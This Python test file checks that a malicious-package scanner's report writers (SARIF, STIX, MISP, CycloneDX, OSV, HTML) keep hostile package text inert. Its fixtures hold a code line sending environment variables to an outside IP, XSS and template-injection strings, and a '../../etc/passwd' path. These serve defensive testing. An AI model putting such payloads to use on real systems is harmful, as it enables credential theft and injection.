"""Every format is read back by its own library, and a hostile package's text stays text in each."""

from __future__ import annotations

import base64
import json
import uuid
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import stix2
from cyclonedx.schema import SchemaVersion
from cyclonedx.validation.json import JsonStrictValidator
from jsonschema import Draft202012Validator
from packageurl import PackageURL
from pymisp import MISPEvent
from sarif_pydantic import Sarif

from pumpkin.analysis import outputs, static
from pumpkin.analysis.outputs import misp, osv
from tests.analysis import hostile

SCHEMA = json.loads((Path(__file__).parent / "schemas/sarif-2.1.0.json").read_bytes())
HOSTILE = b"""import os, urllib.request
x = "</script><img src=x onerror=alert(1)>\\u202e"
urllib.request.urlopen("http://198.51.100.9/<b>?" + str(os.environ))
"""
EVIL = "\u202egnp.\x00\x1b[31m<script>alert(1)</script>\udcff'\"\\]]>--><!--&amp;{{7*7}}\r\n% \U000e0041"
WHEN = "2026-11-21T10:00:00+00:00"


def malicious() -> dict[str, Any]:
    made = static.scan_files(
        {"setup.py": HOSTILE, "a/<i>.py": HOSTILE, "b.pkl": b"x"}, "reqeusts-1.0", "pypi"
    ).as_json()
    made["artifact"] |= {"purl": "pkg:pypi/reqeusts@1.0"}
    made["proof"] = {"token": base64.b64encode(b"not a real token").decode(), "gen_time": "2026-11-21T10:00:01+00:00"}
    return made


def clean() -> dict[str, Any]:
    return static.scan_files({"a.txt": b"hello"}, "x").as_json()


def incomplete() -> dict[str, Any]:
    return static.scan(hostile.encrypted_zip(), "x.whl").as_json()


def evil() -> dict[str, Any]:
    """A report in which every text a package may choose is hostile."""
    papers = f"Name: {EVIL}{'x' * 5000}\nVersion: {EVIL}\nHome-page: https://github.com/<b>/{EVIL}\n"
    files = {f"{EVIL}/setup.py": HOSTILE, "setup.py": HOSTILE, "PKG-INFO": papers.encode("utf-8", "surrogatepass"),
             f"a/{EVIL}.py": HOSTILE, "../../etc/passwd": b"x", "a" * 4000 + ".py": HOSTILE}  # fmt: skip
    made = static.scan_files(files, EVIL, "pypi").as_json()
    made["artifact"] |= {"package": EVIL, "version": EVIL}
    made["why"] = [*made["why"], EVIL]
    made["not_checked"] = [EVIL]
    return made


REPORTS = {"malicious": malicious, "clean": clean, "incomplete": incomplete, "evil": evil}
OUTCOMES = {"malicious": "malicious", "clean": "clean", "incomplete": "incomplete", "evil": "malicious"}


@pytest.fixture(scope="module", params=sorted(REPORTS))
def each(request: pytest.FixtureRequest) -> dict[str, Any]:
    made = REPORTS[request.param]()
    assert made["outcome"] == OUTCOMES[request.param]
    return {**made, "created": WHEN}


@pytest.fixture(scope="module")
def report() -> dict[str, Any]:
    return {**malicious(), "created": WHEN}


@pytest.mark.parametrize("form", sorted(outputs.MEDIA))
def test_no_format_carries_what_no_eye_sees(each: dict[str, Any], form: str) -> None:
    text = outputs.write(each, form)
    assert text.encode("utf-8")
    assert [one for one in text if not (one.isprintable() or one in "\n\t")] == []
    assert len(text) < 200_000


def test_sarif_is_valid_by_the_standards_schema(each: dict[str, Any]) -> None:
    faults = [
        fault.message[:200]
        for fault in Draft202012Validator(SCHEMA).iter_errors(json.loads(outputs.write(each, "sarif")))
    ]
    assert faults == []


def test_sarif_says_what_was_not_looked_at(each: dict[str, Any]) -> None:
    run = Sarif.model_validate_json(outputs.write(each, "sarif")).runs[0]
    (invocation,) = run.invocations or []
    assert invocation.execution_successful is (each["outcome"] != "incomplete")
    assert len((invocation.model_extra or {})["toolExecutionNotifications"]) == len(each["not_checked"])


def test_each_report_is_stix_to_its_library(each: dict[str, Any]) -> None:
    bundle = stix2.parse(outputs.write(each, "stix"), version="2.1")
    kinds = [one.type for one in bundle.objects]
    assert ("indicator" in kinds) is (each["outcome"] == "malicious")
    analysis = next(one for one in bundle.objects if one.type == "malware-analysis")
    words = {"malicious": "malicious", "clean": "benign", "incomplete": "unknown"}
    assert (analysis.result, "note" in kinds) == (words[each["outcome"]], True)
    assert len({one.id for one in bundle.objects}) == len(bundle.objects)


def test_each_report_is_an_event_to_misps_library(each: dict[str, Any], tmp_path: Path) -> None:
    event = MISPEvent()
    event.from_json(outputs.write(each, "misp"))
    assert [one.name for one in event.objects][:2] == ["file", "malicious-package-report"]
    assert all(attribute.uuid and attribute.value for one in event.objects for attribute in one.attributes)
    misp.feed([misp.event(each)], tmp_path)
    fed = MISPEvent()
    fed.load_file(tmp_path / f"{event.uuid}.json")
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    assert (fed.uuid, fed.info, len(fed.objects)) == (event.uuid, manifest[event.uuid]["info"], len(event.objects))
    hashes = [line.split(",") for line in (tmp_path / "hashes.csv").read_text().splitlines()]
    assert {len(value) for value, _ in hashes} == {32}
    assert {uuid.UUID(place) for _, place in hashes} == {uuid.UUID(event.uuid)}


def test_each_report_is_valid_cyclonedx(each: dict[str, Any]) -> None:
    text = outputs.write(each, "cyclonedx")
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(text) is None
    assert bool(json.loads(text).get("vulnerabilities")) is (each["outcome"] in ("malicious", "suspicious"))


def test_each_report_is_a_record_of_osv(each: dict[str, Any]) -> None:
    record = osv.parse(outputs.write(each, "osv"))
    for one in record.affected:
        assert one.package.purl
        assert PackageURL.from_string(one.package.purl).name


def test_each_page_stands_alone(each: dict[str, Any]) -> None:
    parser = _Tags()
    parser.feed(outputs.write(each, "html"))
    assert parser.seen.isdisjoint({"script", "img", "b", "i", "link", "@onerror", "@src", "@href"})


def test_sarif_is_read_by_a_model_of_the_standard(report: dict[str, Any]) -> None:
    log = Sarif.model_validate_json(outputs.write(report, "sarif"))
    run = log.runs[0]
    rules = [rule.id for rule in run.tool.driver.rules or []]
    results = run.results or []
    assert (log.version, len(results)) == ("2.1.0", len(report["findings"]))
    assert [rules[result.rule_index] for result in results] == [one["rule"] for one in report["findings"]]


def test_stix_is_read_by_its_library(report: dict[str, Any]) -> None:
    bundle = stix2.parse(outputs.write(report, "stix"))
    kinds = {one.type for one in bundle.objects}
    assert {"identity", "file", "malware-analysis", "indicator", "attack-pattern", "note"} <= kinds
    analysis = next(one for one in bundle.objects if one.type == "malware-analysis")
    assert analysis.result == "malicious"


def test_misp_is_read_by_its_library_with_package_and_proof(report: dict[str, Any]) -> None:
    event = MISPEvent()
    event.from_json(outputs.write(report, "misp"))
    assert [one.name for one in event.objects] == ["file", "malicious-package-report", "trusted-timestamp"]
    package = event.objects[1]
    assert package.get_attributes_by_relation("package-purl")[0].value == "pkg:pypi/reqeusts@1.0"


def test_a_misp_feed_needs_no_key(report: dict[str, Any], tmp_path: Path) -> None:
    event = misp.event(report)
    misp.feed([event], tmp_path)
    manifest = json.loads((tmp_path / "manifest.json").read_text())
    stored = json.loads((tmp_path / f"{event.uuid}.json").read_text())
    assert (list(manifest), stored["Event"]["uuid"]) == ([str(event.uuid)], str(event.uuid))
    assert str(event.uuid) in (tmp_path / "hashes.csv").read_text()


def test_cyclonedx_is_valid_by_its_schema(report: dict[str, Any]) -> None:
    assert JsonStrictValidator(SchemaVersion.V1_6).validate_str(outputs.write(report, "cyclonedx")) is None


def test_osv_is_valid_and_names_the_package(report: dict[str, Any]) -> None:
    record = osv.parse(outputs.write(report, "osv"))
    assert (record.affected[0].package.ecosystem, record.affected[0].package.name) == ("PyPI", "reqeusts")
    assert record.affected[0].versions == ["1.0"]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.seen |= {f"@{name}" for name, _ in attrs if name.startswith("on") or name in ("src", "href")}


def test_html_holds_no_element_of_the_package(report: dict[str, Any]) -> None:
    parser = _Tags()
    parser.feed(outputs.write(report, "html"))
    assert parser.seen.isdisjoint({"script", "img", "b", "i", "@onerror", "@src", "@href"})


@pytest.mark.parametrize("form", sorted(outputs.MEDIA))
def test_the_same_report_gives_the_same_text(report: dict[str, Any], form: str) -> None:
    assert outputs.write(report, form) == outputs.write(report, form)


def test_an_unknown_format_is_refused(report: dict[str, Any]) -> None:
    with pytest.raises(KeyError):
        outputs.write(report, "pdf")
